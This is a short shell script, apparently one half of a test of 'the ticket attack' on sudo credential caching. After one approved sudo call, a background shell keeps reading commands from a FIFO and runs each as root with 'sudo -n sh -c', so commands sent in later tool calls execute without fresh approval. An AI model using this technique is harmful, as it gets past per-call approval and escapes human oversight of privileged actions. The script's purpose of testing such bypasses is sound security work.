#!/bin/sh
# The background shell of the ticket attack (see ticket_setup.sh). Every sudo
# below is a direct child of this shell, so each one would find a ticket
# keyed to it.
d=$1
sudo true
echo "approved rc=$?" >"$d/approved.tmp"
# Is there a ticket now? (0 in the per-call mode while the call runs.)
/usr/bin/sudo -n id -u >"$d/during" 2>&1
echo "rc=$?" >>"$d/during"
mv "$d/approved.tmp" "$d/approved"
# Blocks until a later tool call opens the FIFO for writing; no subshell, so
# the sudo in the loop is still this shell's child.
exec 3<"$d/fifo"
while read -r line <&3; do
  /usr/bin/sudo -n sh -c "$line" >>"$d/after" 2>&1
  echo "rc=$?" >>"$d/after"
done
echo end >>"$d/after"
